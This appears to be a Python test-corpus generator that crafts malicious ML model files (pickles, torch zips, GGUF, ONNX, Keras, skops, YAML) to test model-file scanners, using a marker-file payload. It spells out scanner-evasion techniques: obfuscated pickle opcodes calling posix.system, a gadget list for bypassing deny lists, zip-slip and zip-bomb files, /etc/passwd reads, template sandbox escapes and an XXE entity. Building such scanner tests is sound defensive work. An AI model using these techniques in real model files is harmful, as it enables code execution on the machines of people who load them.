"""Files that run something when they are loaded, or lie about what they hold.

The payloads are harmless: those that run write the marker file, which the tests prove absent; the others name what a real
one would call. Ways are taken from public advisories of picklescan, modelscan and fickling, from the CVEs of Keras,
TensorFlow, PyTorch and llama-cpp-python, and from reading the loaders. Only the standard library is used.
"""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import pickle
import struct
import zlib

from tools.modelcorpus.writing import (
    Raw,
    call,
    field,
    gguf,
    name,
    npy,
    onnx,
    onnx_node,
    pack,
    pickled,
    safetensors,
    savedmodel,
    tarred,
    text,
    zipped,
)

# Calls that scanners with a list of the forbidden have missed; each from a public advisory or from reading the library.
_GADGETS = {
    "subprocess": ("subprocess", "Popen", ["true"]),
    "eval": ("builtins", "eval", "1"),
    "exec-py2": ("__builtin__", "execfile", "x"),
    "import-module": ("importlib", "import_module", "os"),
    "resolve-name": ("pkgutil", "resolve_name", "os:system"),
    "cprofile": ("cProfile", "run", "1"),
    "timeit": ("timeit", "timeit", "1"),
    "pip-main": ("pip", "main", ["--version"]),
    "ensurepip": ("ensurepip", "_run_pip", ["--version"]),
    "methodcaller": ("operator", "methodcaller", "system", "true"),
    "attrgetter": ("operator", "attrgetter", "system"),
    "runstring": ("numpy.testing._private.utils", "runstring", "1", {}),
    "f2py": ("numpy.f2py.crackfortran", "getlincoef", "1", {}),
    "urlopen": ("urllib.request", "urlopen", "http://127.0.0.1:9/"),
    "runpy": ("runpy", "run_path", "x.py"),
    "pydoc-pipe": ("pydoc", "pipepager", "", "true"),
    "marshal": ("marshal", "loads", b"\xe3"),
    "code-type": ("types", "FunctionType", None),
    "nested-loads": ("pickle", "loads", b"N."),
    "torch-load": ("torch", "load", "other.pt"),
    "torch-hub": ("torch.hub", "load", "a/b", "c"),
    "joblib-load": ("joblib", "load", "other.joblib"),
    "numpy-load": ("numpy", "load", "other.npy", None, True),
    "read-pickle": ("pandas", "read_pickle", "other.pkl"),
    "memmap-writes": ("numpy", "memmap", "marker", "uint8", "w+", 0, (1,)),
    "ufunc-import": ("numpy.core", "_ufunc_reconstruct", "antigravity", "x"),
    "exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", "1", {}, {}),
    "idlelib": ("idlelib.pyshell", "ModifiedInterpreter.runcode", "1"),
    "lib2to3-grammar": ("lib2to3.pgen2.grammar", "Grammar.loads", b"N."),
    "dotted-through-allowed": ("sklearn.utils", "os.system", "true"),
    "sklearn-parallel": ("sklearn.ensemble._forest", "Parallel", 2),
    "openml": ("sklearn.datasets", "fetch_openml", "x"),
    "ctypes": ("ctypes", "CDLL", "libc.so.6"),
    "webbrowser": ("webbrowser", "open", "http://127.0.0.1:9/"),
    "shutil-rmtree": ("shutil", "rmtree", "nowhere"),
    "logging-config": ("logging.config", "fileConfig", "x"),
    "cloudpickle": ("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
    "dill": ("dill._dill", "_create_code", b""),
}


def attacks(marker: str) -> dict[str, bytes]:
    """Every attack by its file name.

    Args:
        marker: The file that those which run would write.
    """
    run = f"echo ran > {marker}"
    evil = pickled(call("posix", "system", run))
    found = {
        f"gadget-{key}.pkl": pickled(call(module, attribute, *args))
        for key, (module, attribute, *args) in _GADGETS.items()
    }
    found |= _opcodes(run) | _containers(evil, run) | _arrays(evil) | _headers() | _graphs() | _configs()
    return found


def _opcodes(run: str) -> dict[str, bytes]:
    """Pickles that hide what they import from a reader that is not as exact as the loader."""
    allowed = text("collections") + b"\x94" + text("OrderedDict") + b"\x94"
    scipy = (
        name("scipy.stats._continuous_distns", "norm_gen")
        + b")\x81"
        + pack({"_parse_arg_template": "import os"})
        + b"b"
    )
    quoted = run.replace("'", "")
    return {
        "protocol-0.pkl": f"cposix\nsystem\n(S'{quoted}'\ntR.".encode(),
        "protocol-1-inst.pkl": f"(S'{quoted}'\niposix\nsystem\n.".encode(),
        "protocol-2-obj.pkl": b"\x80\x02(cposix\nsystem\n" + pack(run) + b"o.",
        "escaped-name.pkl": b"\x80\x04S'po\\x73ix'\nS'sy\\163tem'\n\x93" + pack((run,)) + b"R.",
        "unicode-escaped-name.pkl": b"\x80\x04Vpo\\u0073ix\nVsystem\n\x93" + pack((run,)) + b"R.",
        "memo-shuffled.pkl": pickled(
            text("posix") + b"q\x000" + text("system") + b"q\x010" + allowed + b"00h\x00h\x01\x93" + pack((run,)) + b"R"
        ),
        "memo-overwritten.pkl": pickled(
            text("collections")
            + b"q\x050"
            + text("posix")
            + b"q\x050h\x05"
            + text("system")
            + b"\x93"
            + pack((run,))
            + b"R"
        ),
        "name-from-tuple.pkl": pickled(
            call("builtins", "str", "posix") + text("system") + b"\x93" + pack((run,)) + b"R"
        ),
        "popped-result.pkl": pickled(call("posix", "system", run) + b"0N"),
        "dropped-by-mark.pkl": pickled(b"(" + call("posix", "system", run) + b"1N"),
        "second-pickle.pkl": pickled(b"N") + pickled(call("posix", "system", run)),
        "truncated-after-call.pkl": pickled(call("posix", "system", run))[:-1],
        "broken-after-call.pkl": b"\x80\x04" + call("posix", "system", run) + b"\xff\xff\xff",
        "extension-code.pkl": pickled(b"\x82\x01" + pack((run,)) + b"R"),
        "persistent-id.pkl": pickled(text("os.system") + b"Q"),
        "computed-callee.pkl": pickled(
            call("functools", "partial", Raw(name("posix", "system"))) + pack((run,)) + b"R"
        ),
        "build-on-class.pkl": pickled(name("collections", "OrderedDict") + pack((None, {"__setstate__": 1})) + b"b"),
        "scipy-build-exec.pkl": pickled(scipy),
        "reconstructor-of-evil.pkl": pickled(
            name("copyreg", "_reconstructor")
            + pack((Raw(name("subprocess", "Popen")), Raw(name("builtins", "object")), None))
            + b"R"
        ),
        "newobj-ex.pkl": pickled(name("subprocess", "Popen") + pack((["true"],)) + pack({"shell": False}) + b"\x92"),
        "memo-of-4-billion.pkl": pickled(b"Nr\xff\xff\xff\xfe"),
        "bytes-of-a-terabyte.pkl": pickled(call("builtins", "bytearray", Raw(b"\x8a\x06\x00\x00\x00\x00\x00\x01"))),
        "frame-that-lies.pkl": b"\x80\x04\x95" + struct.pack("<Q", 3) + call("posix", "system", run) + b".",
        "codec-import.pkl": pickled(call("_codecs", "encode", "x", "evilcodec")),
        "generator-callback.pkl": pickled(
            call("numpy.random._pickle", "__generator_ctor", run, Raw(name("collections", "OrderedDict")))
        ),
        "python2-renamed.pkl": b"c__builtin__\napply\n(cposix\nsystem\n(S'x'\nttR.",
    }


def _containers(evil: bytes, run: str) -> dict[str, bytes]:
    broken = bytearray(zipped({"archive/data.pkl": evil, "archive/version": b"3\n"}))
    broken[14:18] = b"\xde\xad\xbe\xef"  # the checksum before the entry
    listed = bytearray(zipped({"archive/data.pkl": evil, "archive/version": b"3\n"}))
    place = listed.find(b"PK\x01\x02")
    listed[place + 16 : place + 20] = b"\xde\xad\xbe\xef"
    renamed = bytearray(zipped({"archive/data.pkl": evil}))
    renamed[30 : 30 + 16] = b"archive/data.txt"
    locked = bytearray(zipped({"archive/data.pkl": evil}))
    locked[locked.find(b"PK\x01\x02") + 8] |= 1
    nested = zipped({"a.zip": zipped({"b.zip": zipped({"weights.dat": evil})})})
    deep = evil
    for _ in range(12):
        deep = zipped({"x": deep})
    harmless = pickled(pack({"weights": [1, 2, 3]}))
    legacy = b"".join(pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    gguf_zip = gguf({"general.name": "x"}) + zipped({"data.pkl": evil})
    return {
        "torch.pt": zipped({"archive/data.pkl": evil, "archive/version": b"3\n"}),
        "torch-in-data.pt": zipped({"archive/data.pkl": harmless, "archive/data/0": evil}),
        "torch-legacy.pt": legacy + evil + pickle.dumps([], 2),
        "torch-broken-checksum.pt": bytes(broken),
        "torch-broken-list-checksum.pt": bytes(listed),
        "zip-two-names.pt": bytes(renamed),
        "zip-locked.pt": bytes(locked),
        "zip-renamed-pickle.bin": zipped({"weights.txt": evil}),
        "zip-deflated.bin": zipped({"weights.txt": evil}, deflate=True),
        "zip-in-zip-in-zip.bin": nested,
        "zip-twelve-deep.bin": deep,
        "zip-bomb.npz": zipped({"a.npy": b"\0" * (80 << 20)}, deflate=True),
        "zip-slip.pt": zipped({"../../outside.py": b"x = 1\n"}),
        "zip-behind-pickle.pkl": harmless + zipped({"data.pkl": evil}),
        "pickle-before-zip.zip": evil + zipped({"readme.txt": b"weights"}),
        "zip-behind-gguf.gguf": gguf_zip,
        "pickle-named-safetensors.safetensors": evil,
        "tar.nemo": tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": evil}),
        "tar-gz.tgz": gzip.compress(tarred({"weights": evil})),
        "tar-link.tar": tarred({}, {"weights": "/etc/passwd"}),
        "gzip.pkl.gz": gzip.compress(evil),
        "zlib.joblib": zlib.compress(evil),
        "bzip2.joblib": bz2.compress(evil),
        "xz.joblib": lzma.compress(evil),
        "lzma.joblib": lzma.compress(evil, lzma.FORMAT_ALONE),
        "gzip-in-bzip2-in-xz.pkl": lzma.compress(bz2.compress(gzip.compress(evil))),
        "torch-bytes-inside.pkl": pickled(call("torch.storage", "_load_from_bytes", zipped({"archive/data.pkl": evil}))),
        "torchscript-custom.pt": zipped({
            "m/code/__torch__.py": b"def forward(self, x):\n  return ops.evil.run(x)\n", "m/data.pkl": harmless,
            "m/constants.pkl": pickled(b")"),
        }),
        "torchscript-file.pt": zipped({
            "m/code/__torch__.py": b'def forward(self, x):\n  return torch.from_file("/etc/passwd", True, 9)\n',
            "m/data.pkl": harmless,
        }),
        "zip-native.pt": zipped({"archive/data.pkl": harmless, "archive/lib.so": b"\x7fELF" + b"\0" * 60}),
        "yaml-object.yaml": f"!!python/object/apply:os.system ['{run}']\n".encode(),
    }  # fmt: skip


def _wrapper(kind: str, shape: tuple[int, ...], data: bytes) -> bytes:
    """An array as joblib writes it."""
    dtype = (
        name("numpy", "dtype") + pack((kind, False, True)) + b"R" + pack((3, "|", None, None, None, -1, -1, 63)) + b"b"
    )
    state = {
        "subclass": Raw(name("numpy", "ndarray")), "shape": shape, "order": "C", "dtype": Raw(dtype), "allow_mmap": False,
        "numpy_array_alignment_bytes": None,
    }  # fmt: skip
    return b"\x80\x04" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + pack(state) + b"b" + data + b"."


def _arrays(evil: bytes) -> dict[str, bytes]:
    return {
        "joblib-objects.joblib": _wrapper("O8", (1,), evil),
        # To joblib the bytes are numbers; to Python's own loader they are opcodes.
        "joblib-two-readings.pkl": _wrapper("u1", (len(evil) - 2,), evil[2:]),
        "joblib-zlib-objects.joblib": zlib.compress(_wrapper("O8", (1,), evil)),
        "npy-objects.npy": npy("'|O'", "(1,)", evil),
        "npy-record-objects.npy": npy("[('a', '<f8'), ('b', '|O')]", "(1,)", evil),
        "npz-objects.npz": zipped({"a.npy": npy("'|O'", "(1,)", evil)}, deflate=True),
        "npy-header-code.npy": npy("__import__('os').system('true')", "(1,)", b""),
    }


def _headers() -> dict[str, bytes]:
    one = '{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    return {
        "safetensors-huge-header.safetensors": struct.pack("<Q", 1 << 39) + b"{}" + b"\0" * 64,
        "safetensors-duplicate.safetensors": safetensors(f'{{"a":{one},"a":{one}}}'.encode(), b"\0" * 8),
        "safetensors-overlap.safetensors": safetensors(
            f'{{"a":{one},"b":{one.replace("[0,8]", "[4,12]")}}}'.encode(), b"\0" * 12
        ),
        "safetensors-shape-lies.safetensors": safetensors(f'{{"a":{one.replace("[2]", "[2000]")}}}'.encode(), b"\0" * 8),
        "safetensors-hidden-tail.safetensors": safetensors(f'{{"a":{one}}}'.encode(), b"\0" * 8 + b"#!/bin/sh\n"),
        "gguf-huge-counts.gguf": gguf({}, keys=1 << 60),
        "gguf-huge-text.gguf": b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 1 << 62) + b"x" * 8,
        "gguf-huge-tensor.gguf": gguf(
            {}, tensors=1, more=struct.pack("<Q", 1) + b"t" + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 20, 0, 0)
        ),
        "gguf-template-class.gguf": gguf({
            "tokenizer.chat_template": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
        }),
        "gguf-template-disguised.gguf": gguf({
            "tokenizer.chat_template": r"{{ messages|attr('\x5f\x5fclass\x5f\x5f') }}"
        }),
        "gguf-template-cycler.gguf": gguf({"tokenizer.chat_template": "{{ cycler['next']('x') }}"}),
    }  # fmt: skip


def _graphs() -> dict[str, bytes]:
    outside = field(8, "w") + field(13, field(1, "location") + field(2, "../../../etc/passwd")) + field(14, 1)
    inner = field(1, onnx_node("Run", "evil.ops")) + field(2, "then")
    return {
        "onnx-custom-operator.onnx": onnx([onnx_node("Run", "evil.ops")], domain="evil.ops"),
        "onnx-undeclared-domain.onnx": onnx([onnx_node("Run", "evil.ops")]),
        "onnx-in-a-branch.onnx": onnx([onnx_node("If", more=field(5, field(1, "then_branch") + field(6, inner)))]),
        "onnx-outside-data.onnx": onnx([onnx_node("Relu")], tensors=[outside]),
        "onnx-function.onnx": onnx(
            [onnx_node("Relu")], more=b"\xca\x01" + bytes([len(onnx_node("Run", "evil.ops")) + 2 + 5])
            + field(1, "fun") + field(7, onnx_node("Run", "evil.ops"))
        ),
        "savedmodel-readfile/saved_model.pb": savedmodel(["Const", "ReadFile"]),
        "savedmodel-writefile/saved_model.pb": savedmodel(["WriteFile"], in_function=True),
        "savedmodel-pyfunc/saved_model.pb": savedmodel(["EagerPyFunc"]),
    }  # fmt: skip


def _keras(layer: dict[str, object]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [layer]},
        "registered_name": None,
    }
    return zipped({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": json.dumps(config).encode()})


def _configs() -> dict[str, bytes]:
    escaped = b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "\\u004cambda", "config": {"function": "x"}}]}}'
    skops = {
        "__class__": "system", "__module__": "posix", "__loader__": "FunctionNode",
        "content": {"module_path": "posix", "function": "system"}, "protocol": 2, "_skops_version": "0.16.0",
    }  # fmt: skip
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    loads = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    return {
        "keras-lambda.keras": _keras({"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"code": "4w=="}}}),
        "keras-any-module.keras": _keras({"module": "os", "class_name": "system", "config": {"command": "true"}}),
        "keras-function.keras": _keras({"module": "keras.layers", "class_name": "Dense", "config": {"activation": function}}),
        "keras-get-file.keras": _keras({"module": "keras.layers", "class_name": "Dense", "config": {"activation": loads}}),
        "keras-tfsm.keras": _keras({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "x"}}),
        "keras-vocabulary.keras": _keras(
            {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
        ),
        "h5-lambda.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + escaped.replace(b"\\u004c", b"L") + b"\0" * 100,
        "h5-lambda-escaped.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + escaped + b"\0" * 100,
        "skops-system.skops": zipped({"schema.json": json.dumps(skops).encode()}),
        "skops-method.skops": zipped({"schema.json": json.dumps(skops | {"__loader__": "OperatorFuncNode"}).encode()}),
        "tokenizer_config.json": b'{"chat_template": "{{ self.__init__.__globals__ }}"}',
        "remote/config.json": b'{"auto_map": {"AutoModel": "modeling.Evil"}}',
        "pmml-entity.pmml": b'<?xml version="1.0"?><!DOCTYPE P [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
    }  # fmt: skip
